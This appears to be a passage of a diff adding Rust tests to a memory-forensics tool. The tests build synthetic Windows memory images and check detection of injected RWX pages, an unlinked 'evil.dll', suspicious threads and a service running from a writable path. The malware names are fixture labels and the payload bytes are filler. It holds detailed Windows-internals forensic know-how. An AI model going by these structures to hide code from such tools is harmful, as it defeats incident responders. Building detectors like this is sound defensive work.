+        put(&mut data, 0x18000 + 0x10 * 8, 0x1C000 | 7);
+        data[0x1C000..0x1C040].fill(0xE8);
+    }
+
+    // PEB -> Ldr at 0x402100 -> InLoadOrderModuleList at 0x402110
+    let uva = |pa: usize| 0x40_2000 + (pa - 0x1B000) as u64;
+    let (peb, ldr) = (0x1B000, 0x1B100);
+    put(&mut data, peb + 0x10, 0x40_0000);
+    put(&mut data, peb + 0x18, uva(ldr));
+    let modules: &[(usize, u64, u32, &str)] = if later {
+        &[(0x1B200, 0x40_0000, 0x2000, "victim.exe"), (0x1B400, 0x50_0000, 0x1000, "evil.dll")]
+    } else {
+        &[(0x1B200, 0x40_0000, 0x2000, "victim.exe")]
+    };
+    let mut link = ldr + 0x10;
+    for &(entry, base, size, name) in modules {
+        put(&mut data, link, uva(entry));
+        put(&mut data, entry + 0x30, base);
+        data[entry + 0x40..entry + 0x44].copy_from_slice(&size.to_le_bytes());
+        let wide: Vec<u8> = name.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+        data[entry + 0x100..entry + 0x100 + wide.len()].copy_from_slice(&wide);
+        data[entry + 0x48..entry + 0x4A].copy_from_slice(&(wide.len() as u16).to_le_bytes());
+        put(&mut data, entry + 0x50, uva(entry + 0x100));
+        link = entry;
+    }
+    put(&mut data, link, uva(ldr + 0x10));
+
+    // RTL_USER_PROCESS_PARAMETERS with the strings and environment after it
+    let (params, env) = (0x1B800, 0x1BA00);
+    put(&mut data, peb + 0x20, uva(params));
+    let mut text = 0x1B900;
+    for (field, value) in [(0x38, "C:\\work\\"), (0x60, "C:\\victim.exe"), (0x70, "victim.exe --serve")] {
+        let wide: Vec<u8> = value.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+        data[params + field..params + field + 2].copy_from_slice(&(wide.len() as u16).to_le_bytes());
+        put(&mut data, params + field + 8, uva(text));
+        data[text..text + wide.len()].copy_from_slice(&wide);
+        text += 0x40;
+    }
+    let block: Vec<u8> = "=C:=C:\\work\0PATH=C:\\Windows\0TOKEN=a=b\0\0".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[env..env + block.len()].copy_from_slice(&block);
+    put(&mut data, params + 0x80, uva(env));
+    put(&mut data, params + 0x3F0, block.len() as u64);
+
+    data
+}
+
+#[test]
+fn test_process_snapshot_diff_pinpoints_injected_code() -> Result<(), Box<dyn std::error::Error>> {
+    let test_dir = tempdir()?;
+    let mut snapshots = Vec::new();
+    for (name, later) in [("before.bin", false), ("after.bin", true)] {
+        let path = test_dir.path().join(name);
+        std::fs::write(&path, put_process_capture(later))?;
+        let mut img = load_memory_image(&path)?;
+        img.set_cr3(0x1000);
+        snapshots.push(ProcessSnapshot::capture(&img, 0x1F0, &ProgressBar::hidden())?);
+        assert_eq!(img.info.dtb, Some(0x1000), "Kernel DTB restored");
+    }
+    let (before, after) = (&snapshots[0], &snapshots[1]);
+
+    assert_eq!(before.name, "victim.exe");
+    assert_eq!(before.regions, vec![
+        MemoryRegion { va: 0x40_0000, size: 0x2000, executable: true },
+        MemoryRegion { va: 0x40_2000, size: 0x1000, executable: false },
+    ]);
+    assert_eq!(before.exec_pages.keys().copied().collect::<Vec<_>>(), vec![0x40_0000, 0x40_1000]);
+    assert_eq!(before.threads.iter().copied().collect::<Vec<_>>(), vec![0x114]);
+    assert_eq!(before.module_at(0x40_1800).map(|m| m.name.as_str()), Some("victim.exe"));
+
+    let diff = before.diff(after);
+    assert_eq!(diff.regions_added, vec![MemoryRegion { va: 0x41_0000, size: 0x1000, executable: true }]);
+    assert!(diff.regions_removed.is_empty());
+    assert_eq!(diff.modules_loaded, vec![LoadedModule { base: 0x50_0000, size: 0x1000, name: "evil.dll".to_string() }]);
+    assert_eq!(diff.threads_started, vec![0x9A8]);
+    assert_eq!(diff.pages_added, vec![0x41_0000]);
+    assert_eq!(diff.pages_modified, vec![0x40_1000]);
+    // The patched page belongs to victim.exe; only the new page is unbacked
+    assert_eq!(diff.injected, vec![(0x41_0000, 0x1000)]);
+
+    assert!(after.diff(after).is_empty());
+    let mut img = load_memory_image(&test_dir.path().join("after.bin"))?;
+    img.set_cr3(0x1000);
+    assert!(ProcessSnapshot::capture(&img, 0x999, &ProgressBar::hidden()).is_err());
+
+    Ok(())
+}
+
+#[test]
+fn test_host_diff_reports_process_lifecycle_and_injection() -> Result<(), Box<dyn std::error::Error>> {
+    let created = 133_485_408_000_000_000u64;
+    // Pool holds a dropper still running before and exited after, and a
+    // payload that only the later capture has
+    let mut before = put_process_capture(false);
+    put_eprocess(&mut before, 0x1D000, 0x1238, "dropper.exe", created, 0);
+    let mut after = put_process_capture(true);
+    put_eprocess(&mut after, 0x1D000, 0x1238, "dropper.exe", created, created + 600 * 10_000_000);
+    put_eprocess(&mut after, 0x1E000, 0x1300, "payload.exe", created + 300 * 10_000_000, 0);
+
+    let mut snapshots = Vec::new();
+    for data in [before, after] {
+        let mut img = crate::MemoryImage::new(data);
+        img.set_cr3(0x1000);
+        snapshots.push(HostSnapshot::capture(&img, &[&MalfindScanner], &ProgressBar::hidden())?);
+    }
+    let (old, new) = (&snapshots[0], &snapshots[1]);
+    assert!(old.process_snapshots.values().any(|s| s.name == "victim.exe"));
+
+    let diff = old.diff(new);
+    let names = |processes: &[Process]| processes.iter().map(|p| (p.pid, p.name.clone())).collect::<Vec<_>>();
+    assert_eq!(names(&diff.processes_created), vec![(0x1300, "payload.exe".to_string())]);
+    assert_eq!(names(&diff.processes_terminated), vec![(0x1238, "dropper.exe".to_string())]);
+    assert!(diff.processes_terminated[0].exit_time.is_some(), "Reported as last seen");
+
+    // victim.exe loaded evil.dll and gained an unbacked RWX page
+    let (process, changes) = diff.processes_changed.first().ok_or("victim.exe unchanged")?;
+    assert_eq!(process.pid, 0x1F0);
+    assert_eq!(changes.injected, vec![(0x41_0000, 0x1000)]);
+    let new_findings: Vec<&str> = diff.findings_new.iter().map(|f| f.desc.as_str()).collect();
+    assert_eq!(new_findings, vec!["sparse data in victim.exe (PID 496) at 0x410000-0x410fff, private PAGE_EXECUTE_READWRITE"]);
+    assert!(diff.findings_gone.is_empty());
+
+    let records = diff.records();
+    let kinds: Vec<(&str, &str, Option<u32>)> = records.iter()
+        .filter(|r| r.kind != "finding")
+        .map(|r| (r.change.as_str(), r.kind.as_str(), r.pid))
+        .collect();
+    assert_eq!(kinds, vec![
+        ("+", "process", Some(0x1300)),
+        ("-", "process", Some(0x1238)),
+        ("+", "dll", Some(0x1F0)),
+        ("+", "injected", Some(0x1F0)),
+    ]);
+    let injected = records.iter().find(|r| r.kind == "injected").ok_or("no injected record")?;
+    assert_eq!(injected.address.as_deref(), Some("0x410000"));
+    assert_eq!(crate::output::render(&records[..1], crate::output::OutputFormat::Csv)?,
+        "change,kind,pid,name,address,description\n+,process,4864,payload.exe,,\"PPID 4, running\"\n");
+
+    assert!(new.diff(new).is_empty());
+    Ok(())
+}
+
+#[test]
+fn test_process_address_space_reads_user_memory() -> Result<(), Box<dyn std::error::Error>> {
+    let mut img = crate::MemoryImage::new(put_process_capture(false));
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+
+    let space = process.address_space(&img).ok_or("no DTB")?;
+    assert_eq!((space.pid, space.name.as_str(), space.dtb), (0x1F0, "victim.exe", 0x15000));
+    assert_eq!(space.object, process.virtual_address);
+    // PEB.ImageBaseAddress is only mapped by the process's own page tables
+    assert_eq!(space.read_virt_u64(0x40_2010), Some(0x40_0000));
+    assert_eq!(img.read_virt_u64(0x40_2010), None);
+    assert_eq!(img.info.dtb, Some(0x1000));
+    // The kernel half is shared
+    assert_eq!(space.virt_to_phys(KERNEL_VA), img.virt_to_phys(KERNEL_VA));
+
+    let no_dtb = Process { dtb: None, ..process };
+    assert!(no_dtb.address_space(&img).is_none());
+    Ok(())
+}
+
+#[test]
+fn test_svcscan_reads_service_records_from_services_exe() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = put_process_capture(false);
+    data[0x8000 + 0x2E0..0x8000 + 0x2F0].fill(0);
+    data[0x8000 + 0x2E0..0x8000 + 0x2EC].copy_from_slice(b"services.exe");
+    let uva = |pa: usize| 0x40_2000 + (pa - 0x1B000) as u64;
+    let put_wide = |data: &mut Vec<u8>, pa: usize, text: &str| {
+        let wide: Vec<u8> = text.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+        data[pa..pa + wide.len()].copy_from_slice(&wide);
+    };
+    let put_u32 = |data: &mut Vec<u8>, pa: usize, value: u32| data[pa..pa + 4].copy_from_slice(&value.to_le_bytes());
+
+    // SERVICE_HEADERs in the heap page, each pointing at a SERVICE_RECORD;
+    // the last one repeats the first record
+    for (header, record) in [(0x1BC00, 0x1BC20), (0x1BE00, 0x1BE20), (0x1BF00, 0x1BF20), (0x1BF80, 0x1BC20)] {
+        data[header..header + 4].copy_from_slice(b"serH");
+        put(&mut data, header + 0x10, uva(record));
+    }
+    // A user-mode service running from a world-writable directory
+    let (record, process) = (0x1BC20, 0x1BD60);
+    put(&mut data, record + 0x08, uva(0x1BD00));
+    put_wide(&mut data, 0x1BD00, "EvilSvc");
+    put(&mut data, record + 0x10, uva(0x1BD20));
+    put_wide(&mut data, 0x1BD20, "Windows Update Helper");
+    put_u32(&mut data, record + 0x18, 2);
+    put(&mut data, record + 0x28, uva(process));
+    put_u32(&mut data, record + 0x38, 0x10);
+    put_u32(&mut data, record + 0x3C, 4);
+    put_u32(&mut data, record + 0x58, 2);
+    put(&mut data, process + 0x18, uva(0x1BDA0));
+    put_wide(&mut data, 0x1BDA0, "C:\\Users\\Public\\svc.exe");
+    put_u32(&mut data, process + 0x28, 0x1F0);
+    // A kernel driver, listed first by load order
+    let record = 0x1BE20;
+    put(&mut data, record + 0x08, uva(0x1BE80));
+    put_wide(&mut data, 0x1BE80, "Tcpip");
+    put_u32(&mut data, record + 0x18, 1);
+    put(&mut data, record + 0x28, uva(0x1BEA0));
+    put_wide(&mut data, 0x1BEA0, "\\Driver\\Tcpip");
+    put_u32(&mut data, record + 0x38, 1);
+    put_u32(&mut data, record + 0x3C, 4);
+    put_u32(&mut data, record + 0x58, 1);
+    // Not a service type
+    put_u32(&mut data, 0x1BF20 + 0x38, 0x9999);
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let findings = ServiceScanner.scan(&img, &ProgressBar::hidden());
+    let services: Vec<(&str, &str, &str)> = findings.iter()
+        .map(|f| (f.details["service"].as_str(), f.details["binary"].as_str(), f.details["rule"].as_str()))
+        .collect();
+    assert_eq!(services, vec![
+        ("Tcpip", "\\Driver\\Tcpip", "service_record"),
+        ("EvilSvc", "C:\\Users\\Public\\svc.exe", "service_binary_in_writable_path"),
+    ]);
+    let evil = &findings[1];
+    assert_eq!(evil.details["display_name"], "Windows Update Helper");
+    assert_eq!((evil.details["state"].as_str(), evil.details["start_type"].as_str()), ("RUNNING", "AUTO_START"));
+    assert_eq!((evil.details["service_type"].as_str(), evil.details["pid"].as_str()), ("WIN32_OWN_PROCESS", "496"));
+    assert_eq!(evil.addr, 0x1BC20);
+    assert_eq!(findings[0].details["start_type"], "SYSTEM_START");
+    assert!(!findings[0].details.contains_key("pid"));
+
+    // Without a kernel DTB there is no services.exe to read
+    assert!(ServiceScanner.scan(&crate::MemoryImage::new(vec![0u8; 0x1000]), &ProgressBar::hidden()).is_empty());
+    Ok(())
+}
+
+#[test]
+fn test_thread_walk_flags_start_outside_modules() -> Result<(), Box<dyn std::error::Error>> {
+    let mut img = crate::MemoryImage::new(put_process_capture(true));
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+
+    let threads = finder.threads(&img, &process, &[]);
+    assert_eq!(threads.iter().map(|t| (t.tid, t.pid)).collect::<Vec<_>>(), vec![(0x114, 0x1F0), (0x9A8, 0x1F0)]);
+    assert_eq!((threads[0].start_address, threads[0].module.as_deref()), (0x40_1000, Some("victim.exe")));
+    assert_eq!((threads[0].state, threads[0].priority), (ThreadState::Waiting, 8));
+    assert!(!threads[0].suspicious());
+    assert_eq!((threads[1].start_address, threads[1].module.as_deref()), (0x41_0000, None));
+    assert_eq!(threads[1].state, ThreadState::Running);
+    assert!(threads[1].suspicious());
+    assert_eq!(threads[1].create_time.unwrap().duration_since(process.start_time)?.as_secs(), 0x9A8);
+    assert_eq!(threads[1].exit_time, None);
+    assert_eq!(ThreadState::from_u8(9).to_string(), "Unknown (9)");
+    Ok(())
+}
+
+#[test]
+fn test_timeline_orders_process_thread_and_prefetch_times() -> Result<(), Box<dyn std::error::Error>> {
+    // victim.exe starts 2024-01-01; dropper.exe ran for ten minutes the day before
+    let (created, second) = (133_485_408_000_000_000u64, 10_000_000u64);
+    let mut data = put_process_capture(true);
+    put_eprocess(&mut data, 0x1D000, 0x1238, "dropper.exe", created - 86_400 * second, created - 85_800 * second);
+    // A Windows 10 prefetch file for CMD.EXE, run five times, last at 02:00 and 01:00
+    let pf = 0x1E000;
+    data[pf..pf + 4].copy_from_slice(&30u32.to_le_bytes());
+    data[pf + 4..pf + 8].copy_from_slice(b"SCCA");
+    for (i, unit) in "CMD.EXE".encode_utf16().enumerate() {
+        data[pf + 0x10 + i * 2..pf + 0x12 + i * 2].copy_from_slice(&unit.to_le_bytes());
+    }
+    data[pf + 0x4C..pf + 0x50].copy_from_slice(&0x4A81B364u32.to_le_bytes());
+    put(&mut data, pf + 0x80, created + 7200 * second);
+    put(&mut data, pf + 0x88, created + 3600 * second);
+    data[pf + 0xD0..pf + 0xD4].copy_from_slice(&5u32.to_le_bytes());
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+
+    let events = collect_events(&img, None, &ProgressBar::hidden())?;
+    let summary: Vec<(String, &str, String, Option<u32>)> = events.iter().map(|e| {
+        let record = TimelineRecord::from(e);
+        (record.time, e.source, record.kind, e.pid)
+    }).collect();
+    let event = |time: &str, source, kind: &str, pid| (time.to_string(), source, kind.to_string(), pid);
+    assert_eq!(summary, vec![
+        event("2023-12-31T00:00:00Z", "process", "started", Some(0x1238)),
+        event("2023-12-31T00:10:00Z", "process", "exited", Some(0x1238)),
+        event("2024-01-01T00:00:00Z", "process", "started", Some(0x1F0)),
+        event("2024-01-01T00:04:36Z", "thread", "started", Some(0x1F0)),
+        event("2024-01-01T00:41:12Z", "thread", "started", Some(0x1F0)),
+        event("2024-01-01T01:00:00Z", "prefetch", "executed", None),
+        event("2024-01-01T02:00:00Z", "prefetch", "executed", None),
+    ]);
+    assert_eq!(events[2].description, "victim.exe (PID 496, PPID 4)");
+    assert_eq!(events[4].description, "TID 2472 of victim.exe (PID 496) at 0x410000");
+    assert_eq!(events[6].description, "CMD.EXE-4A81B364.pf (5 runs)");
+
+    // Each bodyfile line holds its time in the column mactime reads for the event
+    assert_eq!(events[0].bodyfile_line(), "0|[process] dropper.exe (PID 4664, PPID 4)|0|---------------|0|0|0|0|0|0|1703980800");
+    assert_eq!(events[1].bodyfile_line(), "0|[process] dropper.exe (PID 4664, PPID 4)|0|---------------|0|0|0|0|0|1703981400|0");
+    assert_eq!(events[6].bodyfile_line(), "0|[prefetch] CMD.EXE-4A81B364.pf (5 runs)|0|---------------|0|0|0|1704074400|0|0|0");
+
+    let dir = tempdir()?;
+    write_timeline(&dir.path().join("timeline.body"), &events)?;
+    let body = std::fs::read_to_string(dir.path().join("timeline.body"))?;
+    assert_eq!(body.lines().count(), 7);
+    write_timeline(&dir.path().join("timeline.CSV"), &events)?;
+    let csv = std::fs::read_to_string(dir.path().join("timeline.CSV"))?;
+    assert_eq!(csv.lines().next(), Some("time,kind,source,pid,description"));
+    assert_eq!(csv.lines().nth(6), Some("2024-01-01T01:00:00Z,executed,prefetch,,CMD.EXE-4A81B364.pf (5 runs)"));
+
+    // Older formats keep one run time; anything else is not a prefetch file
+    let mut v23 = vec![0u8; 0x100];
+    v23[..4].copy_from_slice(&23u32.to_le_bytes());
+    v23[4..8].copy_from_slice(b"SCCA");
+    v23[0x10..0x12].copy_from_slice(&(b'A' as u16).to_le_bytes());
+    v23[0x80..0x88].copy_from_slice(&created.to_le_bytes());
+    v23[0x98..0x9C].copy_from_slice(&2u32.to_le_bytes());
+    let entry = parse_prefetch(&v23).ok_or("no v23 entry")?;
+    assert_eq!((entry.name.as_str(), entry.run_count, entry.last_runs.as_slice()), ("A", 2, &[created][..]));
+    v23[..4].copy_from_slice(&31u32.to_le_bytes());
+    assert_eq!(parse_prefetch(&v23), None);
+    Ok(())
+}
+
+#[test]
+fn test_vad_tree_lists_regions_with_type_protection_and_file() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = put_process_capture(true);
+    // A corrupted link back to the root must not loop
+    put(&mut data, 0xE100, KERNEL_VA + (0xE000 - 0x5000));
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+
+    let vads = finder.vads(&img, &process);
+    let summary: Vec<_> = vads.iter().map(|v| (v.start, v.end, v.kind, v.protection.to_string(), v.file.as_deref())).collect();
+    assert_eq!(summary, vec![
+        (0x40_0000, 0x40_1FFF, VadKind::Image, "PAGE_EXECUTE_WRITECOPY".to_string(), Some("\\victim.exe")),
+        (0x40_2000, 0x40_2FFF, VadKind::Private, "PAGE_READWRITE".to_string(), None),
+        (0x41_0000, 0x41_0FFF, VadKind::Private, "PAGE_EXECUTE_READWRITE".to_string(), None),
+    ]);
+    assert_eq!(vads[0].address, KERNEL_VA + (0xE000 - 0x5000));
+    assert_eq!(vads[0].size(), 0x2000);
+    assert!(vads[2].contains(0x41_0010) && vads[2].protection.is_executable() && vads[2].protection.is_writable());
+    assert!(!vads[1].protection.is_executable());
+    assert_eq!(VadProtection(1 | 2 << 3).to_string(), "PAGE_READONLY | PAGE_GUARD");
+    Ok(())
+}
+
+#[test]
+fn test_dump_process_writes_regions_and_rebuilt_pe() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = put_process_capture(true);
+    // PE32+ header of victim.exe at 0x400000, linked for 0x140000000 with .text
+    // at RVA 0x1000 stored at file offset 0x400
+    let pe = 0x19000;
+    data[pe..pe + 0x400].fill(0);
+    data[pe..pe + 2].copy_from_slice(b"MZ");
+    data[pe + 0x3C] = 0x80;
+    data[pe + 0x80..pe + 0x84].copy_from_slice(b"PE\0\0");
+    data[pe + 0x86] = 1;
+    data[pe + 0x94] = 0xF0;
+    data[pe + 0x98..pe + 0x9A].copy_from_slice(&0x20Bu16.to_le_bytes());
+    put(&mut data, pe + 0xB0, 0x1_4000_0000);
+    for (offset, value) in [(0xB8, 0x1000u32), (0xBC, 0x200), (0xD0, 0x2000), (0xD4, 0x400)] {
+        data[pe + offset..pe + offset + 4].copy_from_slice(&value.to_le_bytes());
+    }
+    let section = pe + 0x188;
+    data[section..section + 5].copy_from_slice(b".text");
+    for (offset, value) in [(8, 0x100u32), (12, 0x1000), (16, 0x200), (20, 0x400)] {
+        data[section + offset..section + offset + 4].copy_from_slice(&value.to_le_bytes());
+    }
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+    let output = tempdir()?;
+
+    let files = dump_process_memory(&img, &finder, &process, output.path(), DumpMode::Regions)?;
+    let summary: Vec<_> = files.iter().map(|f| (f.start, f.size, f.missing_pages, f.label.as_str())).collect();
+    assert_eq!(summary, vec![
+        (0x40_0000, 0x2000, 0, "Image \\victim.exe"),
+        (0x40_2000, 0x1000, 0, "Private"),
+        (0x41_0000, 0x1000, 0, "Private"),
+    ]);
+    assert_eq!(files[2].path, output.path().join("pid.496.vad.0x410000-0x410fff.dmp"));
+    let injected = std::fs::read(&files[2].path)?;
+    assert_eq!((&injected[..0x40], injected[0x40]), (&[0xE8; 0x40][..], 0));
+
+    let files = dump_process_memory(&img, &finder, &process, output.path(), DumpMode::Pe { raw: false })?;
+    assert_eq!((files[0].start, files[0].size), (0x40_0000, 0x2000));
+    let rebuilt = std::fs::read(output.path().join("pid.496.victim.exe"))?;
+    assert_eq!(rebuilt.len(), 0x600);
+    assert_eq!(&rebuilt[0xB0..0xB8], &0x40_0000u64.to_le_bytes(), "ImageBase is the load address");
+    assert_eq!(&rebuilt[section - pe + 16..section - pe + 24], &[0, 2, 0, 0, 0, 4, 0, 0], "Raw data follows the headers");
+    assert_eq!(rebuilt[0x400], 0x90);
+    assert!(rebuild_pe(&[0; 0x100], 0, &ExportIndex::default()).is_err());
+
+    // A raw PE is the image as mapped
+    let files = dump_process_memory(&img, &finder, &process, &output.path().join("raw"), DumpMode::Pe { raw: true })?;
+    assert_eq!(files[0].label, "PE (raw)");
+    assert_eq!(std::fs::read(&files[0].path)?, img.get_bytes(pe, 0x2000).ok_or("no image")?);
+
+    // Without a VAD tree the present user mappings are dumped, merged into ranges
+    let mut data = img.get_bytes(0, img.size()).ok_or("no data")?.to_vec();
+    put(&mut data, 0x8000 + 0x290, 0);
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let files = dump_process_memory(&img, &finder, &process, &output.path().join("fallback"), DumpMode::Regions)?;
+    assert_eq!(files.iter().map(|f| (f.start, f.size, f.label.as_str())).collect::<Vec<_>>(),
+        vec![(0x40_0000, 0x3000, "mapped"), (0x41_0000, 0x1000, "mapped")]);
+    Ok(())
+}
+
+#[test]
+fn test_dump_process_resumes_an_interrupted_run() -> Result<(), Box<dyn std::error::Error>> {
+    let data = put_process_capture(true);
+    let mut img = crate::MemoryImage::new(data.clone());
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+    let output = tempdir()?;
+
+    // A directory in the way of the second region stops the run after the first
+    let (first, second) = (output.path().join("pid.496.vad.0x400000-0x401fff.dmp"), output.path().join("pid.496.vad.0x402000-0x402fff.dmp"));
+    std::fs::create_dir(&second)?;
+    assert!(dump_process_memory(&img, &finder, &process, output.path(), DumpMode::Regions).is_err());
+    assert!(PathBuf::from(format!("{}.chunks.json", first.display())).exists());
+    assert_eq!(std::fs::read(&first)?, data[0x19000..0x1B000]);
+    std::fs::remove_dir(&second)?;
+
+    // The finished region is verified against its manifest rather than read
+    // again, so changing the image in between leaves it as written
+    let mut changed = data.clone();
+    changed[0x19000..0x19100].fill(0x00);
+    let mut img = crate::MemoryImage::new(changed);
+    img.set_cr3(0x1000);
+    let files = dump_process_memory(&img, &finder, &process, output.path(), DumpMode::Regions)?;
+    assert_eq!(files.len(), 3);
+    assert_eq!(std::fs::read(&first)?, data[0x19000..0x1B000]);
+    assert_eq!(std::fs::read(&second)?, data[0x1B000..0x1C000]);
+    for file in &files {
+        assert!(PathBuf::from(format!("{}.chunks.json", file.path.display())).exists());
+        assert!(!PathBuf::from(format!("{}.part.json", file.path.display())).exists());
+    }
+    Ok(())
+}
+
+#[test]
+fn test_dlllist_flags_unlinked_and_unlisted_modules() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = put_process_capture(true);
+    let uva = |pa: usize| 0x40_2000 + (pa - 0x1B000) as u64;
+    let (ldr, victim) = (0x1B100, 0x1B200);
+    // victim.exe is on the memory order list too; evil.dll was unlinked from it,
+    // and the init order list is empty as the executable is never on it
+    put(&mut data, ldr + 0x20, uva(victim + 0x10));
+    put(&mut data, victim + 0x10, uva(ldr + 0x20));
+    put(&mut data, ldr + 0x30, uva(ldr + 0x30));
+    // Move the name out of the way of LoadTime
+    let name: Vec<u8> = data[victim + 0x100..victim + 0x114].to_vec();
+    data[victim + 0x180..victim + 0x194].copy_from_slice(&name);
+    put(&mut data, victim + 0x50, uva(victim + 0x180));
+    put(&mut data, victim + 0x100, 133_485_408_000_000_000);
+    // The injected page is an image mapping no loader entry claims
+    data[0xE100 + 0x30..0xE100 + 0x34].copy_from_slice(&(2u32 << 4 | 7 << 7).to_le_bytes());
+
+    let mut img = crate::MemoryImage::new(data);
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+
+    let list = process_dlls(&img, &finder, &process);
+    let summary: Vec<_> = list.dlls.iter().map(|d| (d.base, d.size, d.name.as_str(), d.lists, d.is_image)).collect();
+    assert_eq!(summary, vec![
+        (0x40_0000, 0x2000, "victim.exe", [true, true, false], true),
+        (0x50_0000, 0x1000, "evil.dll", [true, false, false], false),
+    ]);
+    assert_eq!(list.dlls[0].load_time, Some(std::time::UNIX_EPOCH + std::time::Duration::from_secs(1_704_067_200)));
+    assert!(list.dlls[0].missing_from().is_empty());
+    assert_eq!(list.dlls[1].missing_from(), vec!["memory order", "init order"]);
+    assert_eq!(list.unlisted_images.iter().map(|v| v.start).collect::<Vec<_>>(), vec![0x41_0000]);
+    Ok(())
+}
+
+#[test]
+fn test_extract_modules_filters_by_name_path_and_process() -> Result<(), Box<dyn std::error::Error>> {
+    let module = |name: &str, path: Option<&str>| KernelModule { base: 0, size: 0x1000, name: name.to_string(), path: path.map(String::from) };
+    let driver = module("rootkit.sys", Some("\\??\\C:\\Users\\Public\\rootkit.sys"));
+    assert!(ModuleFilter::new(Some("*\\users\\*"), None)?.matches(&driver));
+    assert!(ModuleFilter::new(Some("*.SYS"), Some("public")).map(|f| f.matches(&driver))?);
+    assert!(!ModuleFilter::new(Some("*.sys"), Some("^ntfs")).map(|f| f.matches(&driver))?);
+    assert!(ModuleFilter::new(None, Some("^rootkit\\.sys$"))?.matches(&module("ROOTKIT.SYS", None)));
+    assert!(ModuleFilter::new(None, Some("(")).is_err());
+
+    // The DLLs of a process are read through its page tables
+    let data = put_process_capture(false);
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("dlls.bin");
+    std::fs::write(&path, &data)?;
+    let output = test_dir.path().join("modules");
+    let options = ExtractOptions { pid: Some(0x1F0), regex: Some("^victim".to_string()), raw: true, ..Default::default() };
+    extract_modules(path.clone(), output.clone(), Some(0x1000), options)?;
+    let manifest: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(output.join("manifest.json"))?)?;
+    assert_eq!(manifest.as_array().map(Vec::len), Some(1));
+    assert_eq!((manifest[0]["name"].as_str(), manifest[0]["base"].as_str()), (Some("victim.exe"), Some("0x400000")));
+    let mut img = load_memory_image(&path)?;
+    img.set_cr3(0x1000);
+    let os = OsContext::find(&img, &ProgressBar::hidden()).ok_or("no KDBG")?;
+    let finder = WindowsProcessFinder::new().with_os_context(os);
+    let process = finder.find_processes(&img, &ProgressBar::hidden())?.into_iter().find(|p| p.pid == 0x1F0).ok_or("no process")?;
+    let space = process.address_space(&img).ok_or("no DTB")?;
+    assert_eq!(std::fs::read(output.join("400000_victim.exe"))?, space.read_virt(0x40_0000, 0x2000).ok_or("not resident")?);
+
+    assert!(extract_modules(path, output, Some(0x1000), ExtractOptions { pid: Some(4242), ..Default::default() }).is_err());
+    Ok(())
+}
+
+// A .NET assembly in file layout: one section holding the CLI header and the
+// metadata, whose Module table names payload.dll
+fn clr_assembly() -> Vec<u8> {
+    let mut image = vec![0u8; 0x400];
+    let put_u16 = |image: &mut Vec<u8>, at: usize, value: u16| image[at..at + 2].copy_from_slice(&value.to_le_bytes());
+    let put_u32 = |image: &mut Vec<u8>, at: usize, value: u32| image[at..at + 4].copy_from_slice(&value.to_le_bytes());
+    image[..2].copy_from_slice(b"MZ");
+    put_u32(&mut image, 0x3C, 0x80);
+    image[0x80..0x84].copy_from_slice(b"PE\0\0");
+    for (at, value) in [(0x84, 0x14C), (0x86, 1), (0x94, 0xE0), (0x96, 0x2102), (0x98, 0x10B), (0x98 + 0x44, 3)] {
+        put_u16(&mut image, at, value);
+    }
+    let optional = 0x98;
+    for (at, value) in [(0x1C, 0x1000_0000), (0x20, 0x1000), (0x24, 0x200), (0x38, 0x3000), (0x3C, 0x200), (0x5C, 16), (0xD0, 0x2000), (0xD4, 0x48)] {
+        put_u32(&mut image, optional + at, value);
+    }
+    let section = optional + 0xE0;
+    image[section..section + 5].copy_from_slice(b".text");
+    for (at, value) in [(8, 0x200), (12, 0x2000), (16, 0x200), (20, 0x200)] {
+        put_u32(&mut image, section + at, value);
+    }
+    // CLI header: runtime 2.5, metadata at RVA 0x2048, IL only
+    for (at, value) in [(0x200, 0x48), (0x208, 0x2048), (0x20C, 152), (0x210, 1), (0x214, 0x0600_0001)] {
+        put_u32(&mut image, at, value);
+    }
+    put_u16(&mut image, 0x204, 2);
+    put_u16(&mut image, 0x206, 5);
+    // Metadata root with the #~, #Strings and #GUID streams
+    let root = 0x248;
+    image[root..root + 4].copy_from_slice(b"BSJB");
